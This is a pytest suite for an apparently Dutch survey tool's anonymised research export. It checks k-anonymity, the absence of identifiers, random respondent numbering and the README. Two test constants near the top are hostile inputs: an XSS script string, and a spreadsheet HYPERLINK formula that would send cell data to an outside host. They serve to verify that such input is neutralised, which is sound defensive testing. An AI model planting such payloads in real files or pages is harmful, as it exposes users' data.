"""The anonymised export for researchers: no group under k, no timestamps, tokens, codes or database
ids, open answers only on request, formulas neutralised, "Over u" counts from the scoring layer only (no
option under k, never per respondent), and a README that explains every file."""

from __future__ import annotations

import csv
import random
import re
import tempfile
from collections import Counter
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from dia_scan import storage
from dia_scan.admin import anonymised
from dia_scan.admin.cli import main
from dia_scan.core import codes
from dia_scan.core.catalog import Catalog
from dia_scan.core.model import QuickScan
from dia_scan.quickscan import drafts, rounds
from dia_scan.quickscan.results import score_stored_round
from tests.builders import new_round

INSIDE = ("raad", "college", "organisatie")
SCRIPT = "<script>alert('x')</script> **vet** [klik](javascript:alert(1))"
FORMULA = '=HYPERLINK("http://example.org/?data="&A1)'


def _draft(instrument, group_id: str, rng: random.Random, opens: dict | None = None) -> dict:
    answers = {
        s.id: ("dk" if rng.random() < 0.1 else rng.randint(1, 5))
        for _, s in instrument.statements_for(group_id)
    }
    themes = [t.id for t in drafts.priority_options(instrument, group_id)]
    return {"answers": answers, "priorities": rng.sample(themes, 3), "open": opens or {}}


def _fill(db, round_row: dict, sizes: dict[str, int], rng: random.Random, opens: dict | None = None) -> None:
    instrument = rounds.round_instrument(db, round_row)
    for group_id, n in sizes.items():
        for i in range(n):
            texts = (opens or {}).get(group_id) if i == 0 else None
            rounds.submit_complete(db, round_row, group_id, _draft(instrument, group_id, rng, texts))


@pytest.fixture
def rounds_db(db, catalog):
    """Three rounds that exercise the anonymity rule in different ways."""
    rng = random.Random(11)
    org = storage.insert_organisation(db, "@Gemeente Formule", "gemeente", "Utrecht", "20-50k")
    made = {}
    # A: college under k, so the binnenkant is shown merged; inwoners shown.
    made["A"] = new_round(db, catalog, org, title="+Ronde A")
    _fill(db, made["A"], {"raad": 6, "college": 2, "organisatie": 5, "inwoners": 7}, rng)
    # B: every binnenkant group has k; inwoners under k (hidden), and they wrote open answers.
    made["B"] = new_round(db, catalog, org, title="Ronde B")
    _fill(
        db,
        made["B"],
        {"raad": 5, "college": 5, "organisatie": 5, "inwoners": 3},
        rng,
        opens={
            "inwoners": {"open_goed": "Alleen de inwoners schreven dit."},
            "raad": {"open_mis": SCRIPT, "open_goed": FORMULA},
        },
    )
    started = rounds.start_response(db, made["B"], "raad")  # busy, not submitted: never exported
    rounds.save_draft(
        db, started.response_id, {"answers": {"raad_kaders": 1}, "open": {"open_tip": "concept"}}
    )
    # C: merged binnenkant, with maatwerkvragen that only the (small) college gets.
    made["C"] = new_round(
        db,
        catalog,
        org,
        title="Ronde C",
        custom_questions=[
            {"kind": "stelling", "text": "Het college werkt goed samen.", "groups": ["college"]},
            {"kind": "stelling", "text": "Iedereen krijgt deze stelling.", "groups": []},
            {"kind": "open", "text": "Alleen voor het college: wat mist u?", "groups": ["college"]},
        ],
    )
    _fill(
        db,
        made["C"],
        {"raad": 5, "college": 3, "organisatie": 5, "inwoners": 5},
        rng,
        opens={"college": {"maatwerk_open_3": "Alleen het college schreef dit."}},
    )
    return made


def _read(directory: Path) -> dict[str, list[dict]]:
    out = {}
    for path in sorted(directory.glob("*.csv")):
        with path.open(encoding="utf-8-sig", newline="") as handle:
            out[path.name] = list(csv.DictReader(handle))
    return out


def _export(db, directory: Path, **kwargs) -> dict[str, list[dict]]:
    anonymised.export_anonymised(db, directory, rng=random.Random(0), **kwargs)
    return _read(directory)


def _round_numbers(files) -> dict[str, str]:
    """Round title (without neutralising apostrophe) -> export round number."""
    return {r["titel"].lstrip("'"): r["ronde"] for r in files["rondes.csv"]}


def _groups_in(files, ronde: str) -> set[str]:
    return {
        row["groep"]
        for rows in files.values()
        for row in rows
        if row.get("ronde") == ronde and row.get("groep")
    }


# -- anonymity -----------------------------------------------------------------------------------


def test_no_group_under_k_appears_in_any_file(db, rounds_db, tmp_path):
    files = _export(db, tmp_path / "export", with_open_text=True)
    number = _round_numbers(files)
    assert _groups_in(files, number["+Ronde A"]) == {"binnenkant", "inwoners"}
    assert _groups_in(files, number["Ronde B"]) == {"raad", "college", "organisatie"}
    assert _groups_in(files, number["Ronde C"]) == {"binnenkant", "inwoners"}
    shown_n = {(g["ronde"], g["groep"]): int(g["n"]) for g in files["groepen.csv"]}
    assert all(n >= 5 for n in shown_n.values())
    assert shown_n[(number["+Ronde A"], "binnenkant")] == 13
    # Every shown respondent, and only those, has answers.
    respondents = {(r["ronde"], r["groep"], r["respondent"]) for r in files["antwoorden.csv"]}
    assert Counter((ronde, groep) for ronde, groep, _ in respondents) == Counter(shown_n)


def test_a_question_only_part_of_a_merged_group_got_is_left_out_for_that_group(db, rounds_db, tmp_path):
    files = _export(db, tmp_path / "export", with_open_text=True)
    ronde = _round_numbers(files)["Ronde C"]

    def rows(name, **match):
        return [r for r in files[name] if r["ronde"] == ronde and all(r[k] == v for k, v in match.items())]

    assert not rows("antwoorden.csv", stelling="maatwerk_1"), "answers would reveal the college members"
    assert not rows("scores_stellingen.csv", stelling="maatwerk_1")
    assert rows("antwoorden.csv", stelling="maatwerk_2", groep="binnenkant")  # everyone got this one
    assert not rows("scores_themas.csv", thema="maatwerk", groep="binnenkant")
    # only the college got this open question: its answers would be the college's, so they stay out
    assert not rows("open_antwoorden.csv", vraag="maatwerk_open_3")


def test_no_timestamps_tokens_codes_or_database_ids(db, rounds_db, tmp_path):
    directory = tmp_path / "export"
    files = _export(db, directory, with_open_text=True)
    text = "\n".join(p.read_text(encoding="utf-8-sig") for p in directory.iterdir())
    assert not re.search(r"\d{4}-\d{2}-\d{2}[T ]\d{2}:\d{2}", text), "a timestamp"
    assert not re.search(r"\b[0-9a-f]{64}\b", text), "a token hash"
    assert "scrypt$" not in text
    for row in rounds_db.values():
        assert row.join_code not in text
    headers = {h for rows in files.values() for h in (rows[0].keys() if rows else [])}
    assert not {h for h in headers if "id" in h.split("_") or h.endswith("_at") or "token" in h}
    assert "concept" not in text, "a draft of an unsubmitted response"


def test_respondent_numbers_are_drawn_at_random(db, rounds_db, tmp_path):
    files = _export(db, tmp_path / "export")
    ronde = _round_numbers(files)["+Ronde A"]
    by_number = {int(r["respondent"]): r["groep"] for r in files["antwoorden.csv"] if r["ronde"] == ronde}
    groups_in_number_order = [by_number[n] for n in sorted(by_number)]
    # Responses were submitted group by group; numbered in that order the groups would come in blocks.
    blocks = sum(
        1 for a, b in zip(groups_in_number_order, groups_in_number_order[1:], strict=False) if a != b
    )
    assert blocks > 2
    response_ids = {a["response_id"] for a in storage.round_raw_answers(db, rounds_db["A"].id)}
    assert set(by_number) != response_ids


def test_answers_are_the_stored_answers_of_shown_groups(db, rounds_db, tmp_path):
    files = _export(db, tmp_path / "export")
    ronde = _round_numbers(files)["Ronde B"]
    exported = Counter(
        (r["groep"], r["stelling"], r["antwoord"]) for r in files["antwoorden.csv"] if r["ronde"] == ronde
    )
    stored = Counter(
        (a["group_id"], a["question_id"], "weet_niet" if a["dont_know"] else str(a["value"]))
        for a in storage.round_raw_answers(db, rounds_db["B"].id)
        if a["group_id"] in INSIDE
    )
    assert exported == stored
    picks = Counter(
        (r["groep"], r["thema"]) for r in files["prioriteiten_per_respondent.csv"] if r["ronde"] == ronde
    )
    assert sum(picks.values()) == 3 * 15


# -- open answers, formulas, README --------------------------------------------------------------


def test_open_answers_only_with_the_flag(db, rounds_db, tmp_path):
    plain = tmp_path / "zonder"
    files = _export(db, plain)
    assert "open_antwoorden.csv" not in files
    text = "\n".join(p.read_text(encoding="utf-8-sig") for p in plain.iterdir())
    assert "alert" not in text and "HYPERLINK" not in text and "Alleen het college schreef" not in text
    assert "--with-open-text" in (plain / "README.txt").read_text(encoding="utf-8")

    files = _export(db, tmp_path / "met", with_open_text=True)
    rows = files["open_antwoorden.csv"]
    assert set(rows[0]) == {"ronde", "vraag", "vraagtekst", "groep", "tekst"}, "no respondent number"
    by_text = {r["tekst"]: r for r in rows}
    assert by_text[SCRIPT]["groep"] == "raad", "HTML and markdown stay text, verbatim"
    assert by_text["'" + FORMULA]["groep"] == "raad", "a formula is neutralised"
    assert "Alleen de inwoners schreven dit." not in by_text, "the inwoners of round B are hidden"


def test_cells_a_spreadsheet_would_run_are_neutralised(db, rounds_db, tmp_path):
    files = _export(db, tmp_path / "export", with_open_text=True)
    assert files["rondes.csv"][0]["organisatie"] == "'@Gemeente Formule"
    assert "'+Ronde A" in {r["titel"] for r in files["rondes.csv"]}
    for name, rows in files.items():
        for row in rows:
            for value in row.values():
                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (name, value)


def test_the_readme_explains_every_file(db, rounds_db, tmp_path):
    directory = tmp_path / "export"
    summary = anonymised.export_anonymised(db, directory, with_open_text=True)
    readme = (directory / "README.txt").read_text(encoding="utf-8")
    assert set(summary.files) == {p.name for p in directory.iterdir()}
    for name in summary.files:
        if name != "README.txt":
            assert name in readme
    assert summary.rounds == 3 and summary.respondents == len(
        {(r["ronde"], r["respondent"]) for r in _read(directory)["antwoorden.csv"]}
    )


# -- "Over u": counts per group, from the scoring layer ------------------------------------------

OVER_U_COLUMNS = ["ronde", "groep", "vraag", "vraagtekst", "keuze", "keuzetekst", "n", "aandeel", "rest"]


def _about(group_id: str, i: int) -> dict[str, str]:
    """Background answers per group and person; some skip a question, some pick a rare option."""
    if group_id == "inwoners":
        age = "65-plus" if i < 5 else "18-29" if i < 7 else ""
        education = "theoretisch" if i < 6 else "praktisch" if i == 6 else ""
        return {"leeftijd": age, "opleiding": education, "meedoen": "nooit", "gender": "vrouw"}
    if group_id == "raad":
        return {"leeftijd": "45-64", "ervaring": "langer-5"}
    if group_id == "college":
        return {"leeftijd": "18-29", "ervaring": "2-5"}
    return {"leeftijd": "30-44", "ervaring": "2-5"}


def _fill_with_about(db, round_row: dict, sizes: dict[str, int]) -> None:
    instrument = rounds.round_instrument(db, round_row)
    asked = {g: {q.id for q in instrument.background_for(g)} for g in sizes}
    for group_id, n in sizes.items():
        for i in range(n):
            about = {q: o for q, o in _about(group_id, i).items() if o and q in asked[group_id]}
            answers = {s.id: 3 for _, s in instrument.statements_for(group_id)}
            rounds.submit_complete(db, round_row, group_id, {"answers": answers, "background": about})


@pytest.fixture
def over_u_db(db, catalog):
    """Rounds whose respondents answered the "Over u" questions (k = 5 everywhere).

    A: college (2) under k, so a merged binnenkant (13) and inwoners (8).
    B: a questionnaire where only raad and college get "ervaring"; college (2) under k, so the merged
       binnenkant (12) must not get "ervaring"; the inwoners (3) are hidden but did answer.
    C: raad, college and organisatie (5 each) shown on their own; inwoners (3) hidden.
    """
    org = storage.insert_organisation(db, "Gemeente Over U", "gemeente", "Utrecht", "20-50k")
    data = catalog.get("quickscan-gemeente").model_dump(mode="json")
    data["id"] = "quickscan-gemeente-deel"
    for question in data["background"]:
        if question["id"] == "ervaring":
            question["groups"] = ["raad", "college"]
    partly = Catalog(instruments={data["id"]: QuickScan.model_validate(data)})
    plan = {
        "Over u A": (
            catalog,
            "quickscan-gemeente",
            {"raad": 6, "college": 2, "organisatie": 5, "inwoners": 8},
        ),
        "Over u B": (partly, data["id"], {"raad": 5, "college": 2, "organisatie": 5, "inwoners": 3}),
        "Over u C": (
            catalog,
            "quickscan-gemeente",
            {"raad": 5, "college": 5, "organisatie": 5, "inwoners": 3},
        ),
    }
    made = {}
    for title, (source, instrument_id, sizes) in plan.items():
        made[title] = new_round(db, source, org, instrument_id=instrument_id, title=title)
        _fill_with_about(db, made[title], sizes)
    return made


def _over_u(files, ronde: str) -> list[dict]:
    return [r for r in files["over_u.csv"] if r["ronde"] == ronde]


def _cell(value) -> str:
    return "" if value is None else str(round(value, 4)) if isinstance(value, float) else str(value)


def test_over_u_has_its_columns_and_the_numbers_of_the_scoring_layer(db, over_u_db, tmp_path):
    directory = tmp_path / "export"
    summary = anonymised.export_anonymised(db, directory, rng=random.Random(0))
    assert "over_u.csv" in summary.files and "over_u.csv" in anonymised.ALL_FILES
    with (directory / "over_u.csv").open(encoding="utf-8-sig", newline="") as handle:
        assert next(csv.reader(handle)) == OVER_U_COLUMNS
    files = _read(directory)
    number = _round_numbers(files)
    for title, row in over_u_db.items():
        result = score_stored_round(db, row)
        expected = []
        for question in result.background:
            for group in question.by_group:
                key = [number[title], group.group_id, question.id, question.text]
                expected += [
                    [*key, o.option_id, o.label, _cell(o.n), _cell(o.share), "0"] for o in group.options
                ]
                rest = f"Niet ingevuld, of gekozen door minder dan {result.k}"
                expected.append([*key, "", rest, _cell(group.rest), _cell(group.rest_share), "1"])
        exported = [[r[c] for c in OVER_U_COLUMNS] for r in _over_u(files, number[title])]
        assert exported == expected, title
    # The worked numbers of round A: 8 inwoners, 5 of them 65 or older, 2 of 18-29 (under k), 1 skipped.
    rows = {(r["groep"], r["vraag"], r["keuze"]): r for r in _over_u(files, number["Over u A"])}
    assert (
        rows[("inwoners", "leeftijd", "65-plus")]["n"],
        rows[("inwoners", "leeftijd", "65-plus")]["aandeel"],
    ) == (
        "5",
        "0.625",
    )
    assert (
        rows[("inwoners", "leeftijd", "18-29")]["n"]
        == rows[("inwoners", "leeftijd", "18-29")]["aandeel"]
        == ""
    )
    assert (
        rows[("inwoners", "leeftijd", "")]["n"] == "3" and rows[("inwoners", "leeftijd", "")]["rest"] == "1"
    )
    assert rows[("binnenkant", "ervaring", "2-5")]["n"] == "7"  # college 2 + organisatie 5
    # The binnenkant's ages: raad 6 (45-64), organisatie 5 (30-44), college 2 (18-29: under k, so rest).
    assert {k[2]: r["n"] for k, r in rows.items() if k[:2] == ("binnenkant", "leeftijd")} == {
        "jonger-18": "",
        "18-29": "",
        "30-44": "5",
        "45-64": "6",
        "65-plus": "",
        "": "2",
    }
    readme = " ".join((directory / "README.txt").read_text(encoding="utf-8").split())
    assert 'over_u.csv De antwoorden op de vragen onder "Over u"' in readme
    assert "nooit per respondent bewaard" in readme and "niet te koppelen aan antwoorden.csv" in readme
    assert "minder dan k" in readme and "rest = 1" in readme


def test_over_u_answers_are_never_per_respondent(db, over_u_db, tmp_path):
    files = _export(db, tmp_path / "export", with_open_text=True)
    assert "respondent" not in files["over_u.csv"][0]
    option_ids = {
        "65-plus",
        "18-29",
        "30-44",
        "45-64",
        "theoretisch",
        "praktisch",
        "langer-5",
        "2-5",
        "nooit",
    }
    for name, rows in files.items():
        if name != "over_u.csv":
            assert not {v for row in rows for v in row.values()} & option_ids, name
    for name, columns in {
        "antwoorden.csv": ["ronde", "respondent", "groep", "stelling", "antwoord"],
        "prioriteiten_per_respondent.csv": ["ronde", "respondent", "groep", "thema"],
    }.items():
        with (tmp_path / "export" / name).open(encoding="utf-8-sig", newline="") as handle:
            assert next(csv.reader(handle)) == columns, "no column for answers about oneself"


def test_no_option_under_k_in_over_u(db, over_u_db, tmp_path):
    files = _export(db, tmp_path / "export")
    k = {r["ronde"]: int(r["k"]) for r in files["rondes.csv"]}
    size = {(g["ronde"], g["groep"]): int(g["n"]) for g in files["groepen.csv"]}
    options = [r for r in files["over_u.csv"] if r["rest"] == "0"]
    assert {r["n"] for r in options} >= {"", "5"}  # both kinds occur in the fixture
    for r in options:
        assert (r["n"] == "") == (r["aandeel"] == "")
        assert r["n"] == "" or int(r["n"]) >= k[r["ronde"]], r
    totals = Counter()
    for r in files["over_u.csv"]:
        totals[(r["ronde"], r["groep"], r["vraag"])] += int(r["n"] or 0)
    assert all(total == size[(ronde, groep)] for (ronde, groep, _), total in totals.items())


def test_a_hidden_group_never_appears_in_over_u(db, over_u_db, tmp_path):
    files = _export(db, tmp_path / "export")
    number = _round_numbers(files)
    shown = {(g["ronde"], g["groep"]) for g in files["groepen.csv"]}
    assert {(r["ronde"], r["groep"]) for r in files["over_u.csv"]} == shown
    for title in ("Over u B", "Over u C"):
        assert "inwoners" not in {r["groep"] for r in _over_u(files, number[title])}, title
    # the hidden inwoners were the only ones asked about education or taking part
    assert not {r["vraag"] for r in files["over_u.csv"] if r["ronde"] != number["Over u A"]} & {
        "opleiding",
        "meedoen",
    }
    assert {r["groep"] for r in _over_u(files, number["Over u C"])} == set(INSIDE)


def test_the_merged_binnenkant_gets_only_over_u_questions_all_its_members_got(db, over_u_db, tmp_path):
    files = _export(db, tmp_path / "export")
    number = _round_numbers(files)

    def questions(title: str, group: str) -> set[str]:
        return {r["vraag"] for r in _over_u(files, number[title]) if r["groep"] == group}

    assert questions("Over u A", "binnenkant") == {"leeftijd", "gender", "ervaring"}
    assert questions("Over u A", "inwoners") == {"leeftijd", "gender", "opleiding", "meedoen"}
    # Only raad and college got "ervaring"; for the merged binnenkant it would be their answers alone.
    assert questions("Over u B", "binnenkant") == {"leeftijd", "gender"}
    assert questions("Over u C", "college") == {"leeftijd", "gender", "ervaring"}


# -- property: whatever the sizes and picks, no "Over u" option under k --------------------------


def _bare_round(db, catalog, k: int) -> int:
    """A gemeente round put straight into storage: no slow beheercode hash per hypothesis example."""
    org = storage.insert_organisation(db, "Gemeente")
    instrument = catalog.instruments["quickscan-gemeente"]
    storage.keep_instrument(db, instrument)
    return storage.insert_round(
        db,
        organisation_id=org,
        instrument_id=instrument.id,
        instrument_version=instrument.version,
        title="R",
        join_code="PRPRPRPR",
        beheercode_hash="-",
        published=1,
        k=k,
    )


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    picks=st.fixed_dictionaries(
        {
            g: st.lists(st.sampled_from(["", "jonger-18", "18-29", "65-plus"]), max_size=9)
            for g in (*INSIDE, "inwoners")
        }
    ),
    k=st.sampled_from([3, 4, 5]),
)
def test_property_no_over_u_option_under_k_whatever_the_picks(catalog, picks, k):
    with tempfile.TemporaryDirectory() as tmp:
        db = storage.connect(Path(tmp) / "p.db")
        round_id = _bare_round(db, catalog, k)
        for group_id, ages in picks.items():
            for i, age in enumerate(ages):
                rid = storage.insert_response(db, round_id, group_id, codes.token_hash(f"{group_id}{i}"))
                about = {"leeftijd": age} if age else {}
                storage.submit_response(db, rid, {"inw_meedenken": 3}, [], {}, about)
        files = _export(db, Path(tmp) / "export")
        db.conn.close()
    size = {g["groep"]: int(g["n"]) for g in files["groepen.csv"]}
    rows = files["over_u.csv"]
    assert {r["groep"] for r in rows} == set(size), "every shown group, and only those"
    for r in rows:
        if r["rest"] == "0":
            assert r["n"] == "" or int(r["n"]) >= k, r
    for group, n in size.items():
        assert sum(int(r["n"] or 0) for r in rows if r["groep"] == group and r["vraag"] == "leeftijd") == n


# -- the command ---------------------------------------------------------------------------------


def test_cli_export_refuses_a_full_folder_and_force_removes_old_open_answers(
    db_path, rounds_db, tmp_path, capsys
):
    target = tmp_path / "export"
    args = ["export-anonymised", "--db", str(db_path), "--to", str(target)]
    assert main([*args, "--with-open-text"]) == 0
    assert "open antwoorden" in capsys.readouterr().out
    assert main(args) == 1
    err = capsys.readouterr().err
    assert err.startswith("fout: ") and "niet leeg" in err and "--force" in err
    assert main([*args, "--force"]) == 0
    assert not (target / "open_antwoorden.csv").exists(), "an old file with open answers must not linger"


def test_cli_export_of_one_round_and_of_bad_input(db_path, rounds_db, tmp_path, capsys):
    code = rounds_db["B"].join_code
    assert (
        main(["export-anonymised", "--db", str(db_path), "--to", str(tmp_path / "een"), "--round", code]) == 0
    )
    assert len(_read(tmp_path / "een")["rondes.csv"]) == 1
    capsys.readouterr()
    assert (
        main(["export-anonymised", "--db", str(db_path), "--to", str(tmp_path / "x"), "--round", "ZZZZZZZZ"])
        == 1
    )
    assert "kennen we niet" in capsys.readouterr().err
    missing = tmp_path / "geen.db"
    assert main(["export-anonymised", "--db", str(missing), "--to", str(tmp_path / "y")]) == 1
    assert "bestaat niet" in capsys.readouterr().err and not missing.exists()


def test_scoring_hides_a_statement_only_part_of_a_merged_group_got(db, rounds_db):
    from dia_scan.quickscan.results import score_stored_round

    result = score_stored_round(db, rounds_db["C"])
    assert [g.id for g in result.shown_groups] == ["binnenkant", "inwoners"]
    cell = result.item("maatwerk_1").by_group["binnenkant"]  # only the college (3 people) got it
    assert cell.n_numeric + cell.n_dont_know == 0 and cell.score is None, (
        f"college alone shown: n={cell.n_numeric}, distribution {cell.distribution}"
    )


# -- property: whatever the group sizes, no group under k ----------------------------------------


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    sizes=st.fixed_dictionaries({g: st.integers(0, 7) for g in (*INSIDE, "inwoners")}),
    k=st.sampled_from([3, 4, 5]),
)
def test_property_no_group_under_k_whatever_the_sizes(catalog, sizes, k):
    with tempfile.TemporaryDirectory() as tmp:
        db = storage.connect(Path(tmp) / "p.db")
        round_id = _bare_round(db, catalog, k)
        for group_id, n in sizes.items():
            for i in range(n):
                rid = storage.insert_response(db, round_id, group_id, codes.token_hash(f"{group_id}{i}"))
                storage.submit_response(
                    db, rid, {"inw_meedenken": 1 + i % 5, "inw_terugkoppeling": "dk"}, [], {}
                )
        files = _export(db, Path(tmp) / "export")
        db.conn.close()
    exported = {r["groep"]: int(r["n"]) for r in files["groepen.csv"]}
    inside_small = any(0 < sizes[g] < k for g in INSIDE)
    for group_id, n in exported.items():
        assert n >= k
        if group_id in INSIDE:
            assert not inside_small, "a binnenkant group on its own while another one is under k"
    assert _groups_in(files, "1") <= set(exported)
    assert sum(exported.values()) == len({r["respondent"] for r in files["antwoorden.csv"]})


def test_the_urbanisation_class_is_a_column_of_the_rounds_only(db, rounds_db, catalog, tmp_path):
    formula = next(o for o in storage.list_organisations(db) if o.name == "@Gemeente Formule")
    storage.update_organisation(db, formula.id, urbanisation=2)
    waterschap = storage.insert_organisation(db, "Waterschap Zonder Klasse", "waterschap", None, None)
    new_round(db, catalog, waterschap, instrument_id="quickscan-waterschap")
    files = _export(db, tmp_path / "export")
    by_org = {r["organisatie"].lstrip("'"): r["stedelijkheid"] for r in files["rondes.csv"]}
    assert by_org["@Gemeente Formule"] == "2"
    assert by_org["Waterschap Zonder Klasse"] == ""  # no class known: empty, never a guess
    assert (
        list(files["rondes.csv"][0]).index("stedelijkheid")
        == list(files["rondes.csv"][0]).index("grootteklasse") + 1
    )
    # an attribute of the organisation only: never next to a group or a respondent
    others = [name for name in files if name != "rondes.csv"]
    assert all("stedelijkheid" not in (files[name][0] if files[name] else {}) for name in others)
    readme = (tmp_path / "export" / "README.txt").read_text(encoding="utf-8")
    assert "stedelijkheid" in readme and "1 = zeer sterk" in readme
